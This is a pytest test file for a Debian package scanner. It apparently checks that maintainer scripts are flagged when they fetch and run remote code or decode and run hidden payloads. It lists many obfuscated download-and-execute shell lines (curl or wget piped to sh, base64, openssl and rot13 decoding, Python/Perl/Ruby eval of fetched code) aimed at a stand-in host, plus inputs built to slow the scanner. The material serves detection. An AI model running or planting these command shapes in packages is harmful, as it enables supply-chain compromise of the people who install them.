"""Obfuscated download-and-run and decode-and-run shapes the script rules must catch.

Each case is a maintainer script an attacker could ship; the scanner must report it
as hostile under the named rule, both scanned directly and inside a real package
built by ``dpkg-deb``. The shapes already caught before this file (continuations,
``eval "$(curl)"``, ``$(printf ...)``, commands split across variables) are kept
here too, so the whole family is pinned in one place.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path

import pytest

from aegis.analyze.evidence.scripts import MAX_LINE_CHARS, scan_script
from aegis.ecosystems.apt.evidence.contents import inspect_deb

U = "http://e.invalid/x"
CASES = [
    ("continuations", f"curl -s \\\n  {U} \\\n  | sh", "script.download-exec"),
    ("eval-subst", f'eval "$(curl -s {U})"', "script.download-exec"),
    ("printf-command", f"$(printf 'cu%s' 'rl') -s {U} | sh", "script.download-exec"),
    ("split-vars", f"a=cu\nb=rl\nc=s\nd=h\n$a$b -s {U} | $c$d", "script.download-exec"),
    ("command-in-var", f'X="curl -s {U}"\n$X | sh', "script.download-exec"),
    ("busybox-wget", f"busybox wget -O- {U} | sh", "script.download-exec"),
    ("python-system", f"python3 -c \"import os;os.system('curl {U}|sh')\"", "script.download-exec"),
    ("perl-concat", f'perl -e \'system("cur"."l -s {U}|sh")\'', "script.download-exec"),
    ("openssl-b64-first", "echo aWQK | openssl enc -base64 -d | sh", "script.decoded-exec"),
    (
        "gzip-b64",
        "echo H4sIAAAAAAAAA0suLUrVLcnMS1dIzs8p | base64 -d | gunzip | sh",
        "script.decoded-exec",
    ),
    ("dollar-quote", f"$'\\x63\\x75\\x72\\x6c' -s {U} | sh", "script.decoded-exec"),
    # Missed before this file:
    ("openssl-d-first", "echo aWQK | openssl enc -d -base64 | sh", "script.decoded-exec"),
    ("openssl-d-first-a", "echo aWQK | openssl enc -d -a | bash", "script.decoded-exec"),
    (
        "one-line-fetch-run",
        f"curl -so /tmp/.x {U}; chmod +x /tmp/.x; /tmp/.x",
        "script.download-exec",
    ),
    ("wget-qO-run", f"wget -qO /tmp/.x {U} && sh /tmp/.x", "script.download-exec"),
    (
        "rot13",
        "echo 'phey -f uggc://r.vainyvq/k | fu' | tr 'a-z' 'n-za-m' | sh",
        "script.decoded-exec",
    ),
    ("perl-lwp-eval", f"perl -MLWP::Simple -e 'eval get(\"{U}\")'", "script.download-exec"),
    ("ruby-open-uri", f"ruby -ropen-uri -e 'eval URI.open(\"{U}\").read'", "script.download-exec"),
    (
        "python-urlopen",
        f"python3 -c 'import urllib.request as u;exec(u.urlopen(\"{U}\").read())'",
        "script.download-exec",
    ),
]
BENIGN = [
    "openssl req -new -x509 -nodes -days 3650 -out /etc/ssl/x.pem -keyout /etc/ssl/x.key",
    "openssl enc -d -aes-256-cbc -in /usr/share/x/blob -out /var/lib/x/blob -pass file:/etc/x",
    "echo \"$name\" | tr 'A-Z' 'a-z' > /var/lib/x/name",
    "perl -e 'print \"ok\\n\"'",
    "python3 -c 'import sys; sys.exit(0)'",
    "curl --version >/dev/null 2>&1 || true",
]


@pytest.mark.parametrize(("name", "body", "rule"), CASES, ids=[c[0] for c in CASES])
def test_obfuscated_execution_is_hostile(name: str, body: str, rule: str) -> None:
    found = {
        (f.rule, f.severity) for f in scan_script("p", "postinst", f"#!/bin/sh\n{body}\n".encode())
    }
    assert (rule, "hostile") in found


@pytest.mark.parametrize("body", BENIGN)
def test_look_alikes_are_not_hostile(body: str) -> None:
    found = scan_script("p", "postinst", f"#!/bin/sh\nset -e\n{body}\n".encode())
    assert [f for f in found if f.severity == "hostile"] == []


def test_in_a_real_package(dpkg_deb: Callable[..., Path]) -> None:
    missed = {c[0]: c for c in CASES[-8:]}
    scripts = dict(
        zip(
            ("preinst", "postinst", "prerm", "postrm", "config"),
            (f"#!/bin/sh\n{c[1]}\n" for c in list(missed.values())[:5]),
            strict=True,
        )
    )
    deb = dpkg_deb("aegis-obf", "1.0", scripts=scripts)
    result = inspect_deb(deb, "aegis-obf", "1.0", installed_info_dir=None)
    hostile = sorted({f.file for f in result.findings if f.severity == "hostile"})
    assert hostile == sorted(scripts)


# --- scripts built to make the scanner slow (aegisd re-runs it) --------------------------


@pytest.mark.parametrize(
    "line",
    [
        "curl -o x " * 1500,  # was cubic: ~35 s
        "curl -" + "o" * 4000,  # was cubic: ~60 s
        "curl -o /tmp/x ; " * 900,
    ],
    ids=["repeated-fetch-output", "long-flag", "repeated-fetch-then"],
)
def test_lines_built_for_backtracking_scan_quickly(line: str) -> None:
    started = time.monotonic()
    scan_script("p", "postinst", f"#!/bin/sh\n{line}\n".encode())
    assert time.monotonic() - started < 2


def test_a_line_past_the_cap_is_refused_not_scanned() -> None:
    body = b"#!/bin/sh\ntrue\n" + b"eval " * (MAX_LINE_CHARS // 5 + 1) + b"\n"
    started = time.monotonic()
    found = scan_script("p", "postinst", body)
    assert time.monotonic() - started < 1
    assert [(f.rule, f.severity, f.line) for f in found] == [("script.binary", "hostile", 3)]
    assert "too long to review" in found[0].excerpt


def test_a_script_that_takes_too_long_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    # Many lines each tracked as a download target: every later line is checked
    # against all of them. Past the time budget the script is refused as hostile.
    from aegis.analyze.evidence import scripts

    monkeypatch.setattr(scripts, "MAX_SCAN_SECONDS", 0.2)
    body = "".join(f"curl -o /tmp/x{i} {U}/{i}\n" for i in range(19_000))
    started = time.monotonic()
    found = scan_script("p", "postinst", f"#!/bin/sh\n{body}".encode())
    assert time.monotonic() - started < 3
    assert found[-1].rule == "script.binary"
    assert found[-1].severity == "hostile"
    assert "not reviewed within 0.2 s" in found[-1].excerpt


def test_the_longest_real_debian_line_is_still_scanned() -> None:
    # ca-certificates.config joins ~5,800 characters of continuation lines.
    body = "db_subst ca-certificates/trust_new_crts enable_crts \\\n" + " \\\n".join(
        f"mozilla/Cert_{i:03}.crt" for i in range(250)
    )
    found = scan_script("ca-certificates", "config", f"#!/bin/sh\n{body}\n".encode())
    assert [f for f in found if f.rule == "script.binary"] == []
